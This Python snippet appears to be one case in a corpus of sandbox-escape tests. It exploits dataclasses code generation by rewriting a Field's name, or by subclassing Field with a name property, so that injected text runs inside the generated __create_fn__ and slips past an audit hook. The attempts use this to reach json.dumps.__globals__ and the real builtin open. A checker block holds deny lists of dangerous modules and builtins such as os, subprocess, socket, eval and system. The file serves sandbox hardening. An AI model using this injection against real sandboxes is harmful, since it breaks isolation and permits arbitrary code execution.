# technique: dataclasses pastes Field.name into the source it execs (trusted by the audit hook), and the runtime only checks the names of the class's own __annotations__: (1) an inherited field comes from the base's __dataclass_fields__ and Field.name is writable, so renaming a base's field (dataclasses.fields() hands out the Field objects) to 'a=EXPR,_return_type=None,**k):#' makes EXPR a default of the generated __create_fn__, run with no check of its code; (2) a Field subclass whose name is a property is accepted as a field's default object (dataclasses uses it as the field itself) and answers the injected text whenever dataclasses reads its name
# source: dataclasses code generation (exec of field names) + mutable / overridable Field objects

# ---- escape check: the same block in every snippet of the corpus ----------
# It reads no refused attribute and holds no dunder string constant itself,
# so that a refusal is always the technique's, never the checker's.
def dn(s):
    return '_' * 2 + s + '_' * 2


DANGER = frozenset((
    'os', 'posix', 'nt', 'sys', 'subprocess', '_posixsubprocess', 'builtins',
    'ctypes', '_ctypes', 'socket', '_socket', 'importlib', '_imp',
    '_frozen_importlib', '_frozen_importlib_external', 'gc', 'inspect', 'types',
    'io', '_io', 'codecs', '_codecs', 'warnings', '_warnings', 'copyreg',
    'posixpath', 'genericpath', 'marshal', 'pickle', '_pickle', 'runpy',
    'linecache', 'traceback', 'threading', '_thread', 'locale', 'shutil',
    'signal', '_signal', 'pty', 'platform', 'tokenize', 'zipimport', 'pkgutil',
    'site', 'sysconfig', 'tempfile', 'pathlib', 'select', 'mmap', 'fcntl',
    'resource', 'weakref', '_weakref', 'atexit', 'faulthandler', 'encodings',
    'asyncio', 'argparse', 'gettext', 'pdb', 'pydoc', 'code', 'codeop', 'dis',
    'json.tool', '__main__',
))
REAL = frozenset(('eval', 'exec', 'compile', 'open', 'getattr', 'setattr', 'delattr',
                  'globals', 'locals', 'vars', 'breakpoint', '_getframe', 'system',
                  'popen', 'fork', 'execv', 'get_referrers', dn('import')))


def what(o, depth=0):
    """What forbidden thing o is, or None."""
    try:
        t = type(o).__name__
        if t in ('frame', 'code'):
            return t + ' object'
        if t == 'module':
            n = o.__name__
            if n in DANGER or n.split('.')[0] in DANGER:
                return 'module ' + n
            return None
        if t == 'dict':
            if dn('import') in o and 'eval' in o and 'open' in o:
                try:
                    works = o['eval']('1+1') == 2
                except BaseException:
                    works = False
                return 'real builtins dict' + (' (eval works)' if works else '')
            if dn('builtins') in o:
                n = o['__name__'] if '__name__' in o else '?'
                inner = what(o[dn('builtins')], depth + 1) if depth < 3 else None
                return 'globals of ' + str(n) + (' -> ' + inner if inner else '')
            return None
        if t == 'builtin_function_or_method' and o.__name__ in REAL:
            n = o.__name__
            if n == 'eval':
                return 'real eval' + (' (works)' if o('1+1') == 2 else '')
            return 'real builtin ' + n
        if t in ('_Helper', 'Quitter', '_Printer'):
            return 'site builtin ' + t
    except BaseException:
        return None
    return None


def check(label, o):
    w = what(o)
    if w:
        print('ESCAPED', label + ':', w)
        return True
    print('BLOCKED', label + ': reached only a', type(o).__name__)
    return False


def attempt(label, fn):
    try:
        return check(label, fn())
    except BaseException as e:
        print('BLOCKED', label + ':', type(e).__name__, str(e)[:160])
        return False
# ---- end of the escape check ----------------------------------------------

import dataclasses, json

SINK = []


def code_for(expr):
    return 'a=SINK.append(' + expr + '),_return_type=None,**k):#'


def inherited(expr):
    @dataclasses.dataclass
    class Base:
        a: int = dataclasses.field(default=0, init=False, repr=False, compare=False)

    f = dataclasses.fields(Base)[0]
    f.name = code_for(expr)

    @dataclasses.dataclass(repr=False, eq=False)
    class Child(Base):
        pass
    return SINK.pop()


def lying_field(expr):
    text = code_for(expr)

    class LyingField(dataclasses.Field):
        def _get(self):
            return text

        def _set(self, value):
            pass
        name = property(_get, _set)

    @dataclasses.dataclass(repr=False, eq=False)
    class C:
        a: int = LyingField(0, dataclasses.MISSING, False, False, None, False, None, False)
    return SINK.pop()

attempt('inherited Field renamed: json.dumps.__globals__', lambda: inherited('json.dumps.' + dn('globals')))
attempt("inherited Field renamed: ...['__builtins__']['open']",
        lambda: inherited('json.dumps.' + dn('globals') + '[' + repr(dn('builtins')) + "]['open']"))
attempt('Field subclass with a name property: json.dumps.__globals__',
        lambda: lying_field('json.dumps.' + dn('globals')))
